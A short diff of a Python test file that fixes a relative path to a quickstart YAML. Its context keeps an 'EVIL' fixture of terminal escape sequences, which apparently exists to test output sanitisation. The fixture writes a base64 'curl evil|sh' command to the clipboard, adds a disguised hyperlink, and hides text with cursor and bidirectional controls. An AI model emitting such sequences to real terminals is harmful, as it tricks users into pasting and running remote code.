@@ -24,7 +24,7 @@ from support.operator.operator_world import SPEC
 EVIL = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K\x1b[1A\x1b]8;;http://evil\x07click\x1b]8;;\x07\u202e\x9b2J\u200b"
 STEERING = [char for char in EVIL if not char.isprintable()]
 SOURCES = sorted(Path(screen.__file__).parents[1].rglob("*.py"))
-QUICKSTART = (Path(__file__).parents[3] / "docs/examples/quickstart.yaml").read_text()
+QUICKSTART = (Path(__file__).parents[4] / "docs/examples/quickstart.yaml").read_text()
 AT = "2026-11-27T10:00:00Z"
 NOW = datetime(2026, 11, 27, 11, tzinfo=UTC)
 
